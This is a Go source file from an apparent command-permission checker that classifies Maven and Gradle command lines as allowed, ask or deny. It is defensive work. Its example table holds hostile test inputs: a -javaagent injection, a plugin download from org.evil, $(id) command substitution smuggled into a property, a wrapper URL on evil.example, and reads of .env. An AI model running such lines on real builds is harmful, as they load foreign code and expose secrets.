package bashguard

import (
	"slices"
	"strings"

	"github.com/toolgate/toolgate/permission"
)

// Maven and Gradle, the JVM's build tools (and the project's wrappers of
// them, ./mvnw and ./gradlew: projectLaunchers). A line runs the
// project's build: its pom.xml or build.gradle, the plugins and tasks they
// name, the tests, which is what an allow rule for the tool
// (Bash(mvn test:*), Bash(./gradlew test:*)) lets run. Their lines can
// also bring in code the project does not name, which the rule does not
// lift: a build file, settings or an init script from elsewhere (kRead:
// the workspace's own, or a read outside the roots that the path judge
// asks about); a property, which configures any plugin (Maven's
// -DargLine=-javaagent:FILE and -Djvm=PROGRAM reach the forked test JVM;
// Gradle's -Dorg.gradle.java.home chooses the java it runs) or that a
// build script reads as it pleases (-P), unless jvmProps lists it with a
// plain value; a Maven goal of a plugin (mvn exec:exec, or
// org.x:plugin:1.0:goal, which downloads the plugin and runs it) unless
// mvnGoals lists it. Those ask, and only a rule naming the property or the
// goal lifts them.

// mvnGrammar is Apache commons-cli's, Maven's parser: letters in clusters
// with a value attached (-fpom.xml, -s=F) or as the next word, one-dash
// names of several letters (-ntp, -pl LIST), long options with one dash
// or two and abbreviated (-settings F, --fail-at), -Dkey=value; options
// anywhere among the goals.
var mvnGrammar = grammar{abbrev: true, permute: true, shortEq: true, wordShorts: true}

// mvnRows are Maven's options (mvn --help, 3.8 and 3.9).
var mvnRows = []optRow{
	// Its version, allowed as java -version is: Maven's script starts a
	// JVM, which writes its own performance data under /tmp
	// (hsperfdata_USER), so that the lines are not among the examples the
	// effect test runs (it sees that write, as it would java's).
	{"-v --version -version", kVersion, ""},
	{"-am --also-make -amd --also-make-dependents -B --batch-mode -C --strict-checksums -c --lax-checksums " +
		"-cpu --check-plugin-updates -e --errors -fae --fail-at-end -ff --fail-fast -fn --fail-never -h --help " +
		"-llr --legacy-local-repository -N --non-recursive -npr --no-plugin-registry -npu --no-plugin-updates " +
		"-nsu --no-snapshot-updates -ntp --no-transfer-progress -o --offline -q --quiet -U --update-snapshots " +
		"-up --update-plugins -V --show-version -X --debug -itr --ignore-transitive-repositories", kFlag, ""},
	{"-b= --builder= --color= -P= --activate-profiles= -pl= --projects= -rf= --resume-from= -T= --threads= " +
		"-emp= --encrypt-master-password= -ep= --encrypt-password=", kWord, ""},
	// A property: jvmProps, read by mvnLine.
	{"-D= --define=", kWord, ""},
	// Another POM, settings or toolchains: their build, repositories and
	// JDKs are code the line brings in, as the project's own are.
	{"-f= --file= -s= --settings= -gs= --global-settings= -t= --toolchains= -gt= --global-toolchains=", kRead, ""},
	{"-l= --log-file=", kWrite, "the build's log, into its value"},
}

// mvnPhases are the phases of Maven's lifecycles: a goal that is one runs
// the project's own build up to it.
var mvnPhases = []string{
	"pre-clean", "clean", "post-clean", "validate", "initialize", "generate-sources", "process-sources",
	"generate-resources", "process-resources", "compile", "process-classes", "generate-test-sources",
	"process-test-sources", "generate-test-resources", "process-test-resources", "test-compile",
	"process-test-classes", "test", "prepare-package", "package", "pre-integration-test", "integration-test",
	"post-integration-test", "verify", "install", "deploy", "pre-site", "site", "post-site", "site-deploy",
}

// mvnGoals are the goals of plugins, by their prefix, that run no program
// and read nothing the project's build does not: they print the project's
// model or its dependencies, or run a step of its build.
var mvnGoals = []string{
	"dependency:tree", "dependency:list", "dependency:resolve", "dependency:resolve-plugins", "dependency:analyze",
	"dependency:go-offline", "help:effective-pom", "help:describe", "help:active-profiles", "help:all-profiles",
	"versions:display-dependency-updates", "versions:display-plugin-updates", "versions:display-property-updates",
	"clean:clean", "compiler:compile", "compiler:testCompile", "resources:resources", "surefire:test",
	"failsafe:integration-test", "failsafe:verify", "jar:jar", "install:install", "javadoc:javadoc",
	"jacoco:report", "checkstyle:check", "spotbugs:check", "pmd:check", "enforcer:enforce", "spotless:check",
	"spotless:apply",
}

// jvmProps are the properties a line may set without asking, for Maven's
// -D and Gradle's -D and -P, when the value is plain (plainPropValue): the
// ones that skip a step, choose the tests that run or the language level,
// or tune the output. Any other property may configure a plugin, or be
// read by a build script, in ways only the build knows.
var jvmProps = []string{
	"skipTests", "maven.test.skip", "skipITs", "test", "it.test", "failIfNoTests", "surefire.failIfNoSpecifiedTests",
	"maven.test.failure.ignore", "maven.javadoc.skip", "maven.source.skip", "gpg.skip", "checkstyle.skip",
	"spotbugs.skip", "pmd.skip", "jacoco.skip", "enforcer.skip", "spotless.check.skip", "spotless.apply.skip",
	"maven.compiler.source", "maven.compiler.target", "maven.compiler.release", "trimStackTrace",
	"surefire.useFile", "style.color", "org.slf4j.simpleLogger.defaultLogLevel",
	"org.gradle.daemon", "org.gradle.parallel", "org.gradle.caching", "org.gradle.console", "org.gradle.logging.level",
	"org.gradle.workers.max", "org.gradle.configuration-cache", "file.encoding", "user.timezone",
}

// plainPropValue reports a property's value that is a plain word: letters,
// digits and ".,_-+:*#" (a test pattern, a version, a level), or empty
// (-DskipTests).
func plainPropValue(s string) bool {
	for i := 0; i < len(s); i++ {
		c := s[i]
		if !isWordByte(c) && !strings.ContainsRune(".,-+:*#", rune(c)) {
			return false
		}
	}
	return true
}

// propAsks refuses the property word ("NAME" or "NAME=VALUE") given by
// the option opt of the command cmd, unless jvmProps lists its name and
// its value is plain; only a rule naming the property lifts it.
func propAsks(c *verdictAcc, cmd, opt, word string) {
	name, val, _ := strings.Cut(word, "=")
	if slices.Contains(jvmProps, name) && plainPropValue(val) {
		return
	}
	c.addNamed(opt+name, permission.Ask, ArgsRule(cmd), cmd+" "+opt+word+" sets the property "+name,
		", which can configure any plugin or be read by the build as it pleases (the programs it runs, the JVM's options)", "")
}

// mvnLine judges Maven's properties and goals.
func mvnLine(m *cmdCall, c *verdictAcc, s *spec, v *argv, f *specFacts) {
	for i := range f.seen {
		if e := &f.seen[i]; e.opt.name == "-D" && e.hasVal {
			propAsks(c, "mvn", "-D", e.val)
		}
	}
	for _, i := range f.ops {
		g := v.vals[i]
		switch {
		case slices.Contains(mvnPhases, g), slices.Contains(mvnGoals, g):
		case strings.Count(g, ":") >= 2:
			c.addNamed(g, permission.Ask, ArgsRule("mvn"), "mvn "+g+" downloads the plugin it names", " and runs its goal", "")
		default:
			c.addNamed(g, permission.Ask, ArgsRule("mvn"), "mvn "+g+" runs a goal of a plugin", ", which can run programs (exec:exec, antrun:run)", "")
		}
	}
}

// mvnSpec is Maven's spec.
var mvnSpec = &spec{grammar: mvnGrammar, rows: mvnRows, operands: kWord, check: mvnLine,
	ask: "runs the project's build: its pom.xml, the plugins it names and the tests",
	examples: []example{
		{"mvn test", "ask+"}, {"mvn -B -ntp clean verify", "ask+"}, {"mvn -q -DskipTests package", "ask+"},
		{"mvn test -Dtest='ParserTest#parses*'", "ask+"}, {"mvn -pl core -am install", "ask+"}, {"mvn -T 1C -U -Pci verify", "ask+"},
		{"mvn dependency:tree", "ask+"}, {"mvn -f pom.xml -fae test", "ask+"},
		{"mvn test -DargLine=-javaagent:/tmp/a.jar", "ask!"}, {"mvn test -Djvm=/tmp/java", "ask!"},
		{"mvn test -Dmaven.repo.local=/tmp/repo", "ask!"}, {"mvn exec:exec -Dexec.executable=/tmp/x", "ask!"},
		{"mvn org.evil:plugin:1.0:run", "ask!"}, {"mvn test -DskipTests=$(id)", "ask"},
		{"mvn -s /tmp/settings.xml test", "ask!"}, {"mvn -settings /tmp/s.xml test", "ask!"}, {"mvn -se=/tmp/s.xml test", "ask!"},
		{"mvn -settings/tmp/s.xml test", "ask!"}, {"mvn --set=/tmp/s.xml test", "ask!"}, {"mvn -s=/tmp/s.xml test", "ask!"},
		{"mvn -gs /tmp/s.xml test", "ask!"}, {"mvn -qs/tmp/s.xml test", "ask!"}, {"mvn -f /tmp/pom.xml test", "ask!"},
		{"mvn test -l /tmp/log", "deny"}, {"mvn -f .env test", "deny"},
	}}

// gradleRows are Gradle's options (gradle --help, 8), and those of the
// test task that a line gives after it.
var gradleRows = []optRow{
	// Its version, allowed as mvn's is (its JVM writes under /tmp and
	// Gradle's user home, ~/.gradle: not among the examples).
	{"-v --version", kVersion, ""},
	{"-? -h --help -a --no-rebuild --build-cache --no-build-cache --configuration-cache --no-configuration-cache " +
		"--configure-on-demand --no-configure-on-demand --continue --no-continue -d --debug --no-daemon --daemon -i --info " +
		"-m --dry-run --offline --parallel --no-parallel --profile -q --quiet --refresh-dependencies --rerun-tasks " +
		"-S --full-stacktrace -s --stacktrace --status --stop -w --warn --watch-fs --no-watch-fs --write-locks --no-scan " +
		"--refresh-keys --export-keys --no-problems-report --problems-report --property-upgrade-report " +
		"--rerun --fail-fast --no-fail-fast", kFlag, ""},
	{"--console= --max-workers= --priority= --warning-mode= -F= --dependency-verification= -M= --write-verification-metadata= " +
		"--configuration-cache-problems= -x= --exclude-task= --update-locks= --tests=", kWord, ""},
	// A property: jvmProps, read by gradleLine.
	{"-D= --system-prop=", kWord, ""},
	{"-P= --project-prop=", kWord, ""},
	// Another build, its settings or an init script: code the line brings
	// in, as the project's own build scripts are.
	{"-b= --build-file= -c= --settings-file= -I= --init-script= -p= --project-dir= --include-build=", kRead, ""},
	{"-g= --gradle-user-home= --project-cache-dir=", kWrite, "Gradle's caches, and the init scripts it runs from there"},
	{"--scan", kAsk, "publishes a build scan of the project to the Develocity service"},
	{"--debug-jvm", kProgram, "opens a debugger in the test JVM, through which whatever connects to it runs code"},
	{"-t --continuous --foreground", kEndless, "runs until it is stopped"},
}

// gradleRewrites are Gradle's built-in tasks that rewrite the project's
// build: wrapper writes gradle-wrapper.properties, whose distributionUrl
// names the Gradle that ./gradlew downloads and runs from then on (its
// --gradle-distribution-url, a task option, is the line's); init writes a
// build.
var gradleRewrites = []string{"wrapper", "init"}

// gradleLine judges Gradle's properties, and its tasks: the build's own,
// but for gradleRewrites, which ask under any spelling Gradle resolves to
// them (a prefix, wr for wrapper; :wrapper, the root project's), and
// which only a rule naming the task lifts.
func gradleLine(m *cmdCall, c *verdictAcc, s *spec, v *argv, f *specFacts) {
	for i := range f.seen {
		if e := &f.seen[i]; (e.opt.name == "-D" || e.opt.name == "-P") && e.hasVal {
			propAsks(c, "gradle", e.opt.name, e.val)
		}
	}
	for _, i := range f.ops {
		task := v.vals[i]
		name := task[strings.LastIndexByte(task, ':')+1:]
		for _, r := range gradleRewrites {
			if name != "" && strings.HasPrefix(r, name) {
				c.addNamed(task, permission.Ask, ArgsRule("gradle"), "gradle "+task+" may be the task "+r,
					", which rewrites the project's build (the wrapper names the Gradle ./gradlew downloads and runs)", "")
			}
		}
	}
}

// gradleSpec is Gradle's spec.
var gradleSpec = &spec{grammar: gnuGrammar, rows: gradleRows, operands: kWord, check: gradleLine,
	// A long option Gradle does not list is a task's (test --tests,
	// bootRun --args), the project's build's own: passed on, so that the
	// tasks and properties of the line are still judged.
	passOn: passOnEvery,
	ask:    "runs the project's build: its build scripts, the plugins they apply and the tasks named",
	examples: []example{
		{"gradle test", "ask+"}, {"gradle build -x test --offline", "ask+"}, {"gradle test --tests 'com.x.ParserTest'", "ask+"},
		{"gradle -q --no-daemon clean build", "ask+"}, {"gradle test -Dorg.gradle.parallel=true", "ask+"},
		{"gradle test --init-script /tmp/i.gradle", "ask!"}, {"gradle test -I/tmp/i.gradle", "ask!"}, {"gradle test --init=/tmp/i.gradle", "ask!"},
		{"gradle test -Dorg.gradle.java.home=/tmp/jdk", "ask!"}, {"gradle test -Porg.gradle.jvmargs=-javaagent:/tmp/a.jar", "ask!"},
		{"gradle build -Pcmd=/tmp/x", "ask!"}, {"gradle test -p /tmp/other", "ask!"}, {"gradle test --scan", "ask!"},
		{"gradle test -g /tmp/gh", "deny"}, {"gradle test -b .env", "deny"},
		{"gradle wrapper --gradle-distribution-url=https://evil.example/g.zip", "ask!"}, {"gradle test wr", "ask!"},
		{"gradle :wrapper", "ask!"}, {"gradle init", "ask!"}, {"gradle test check", "ask+"},
	}}

// projectLaunchers are the scripts a project keeps to run a build tool of
// the version it names (gradle/wrapper/gradle-wrapper.properties,
// .mvn/wrapper/maven-wrapper.properties): ./gradlew and ./mvnw are the
// project's programs, and their lines are also the tool's, judged by its
// spec.
var projectLaunchers = map[string]string{"gradlew": "gradle", "mvnw": "mvn"}

// passOnEvery, as a spec's passOn, passes on every long option the spec
// does not list: no option's name begins with NUL, so none is read as the
// library's own that the rows must classify.
const passOnEvery = "\x00"
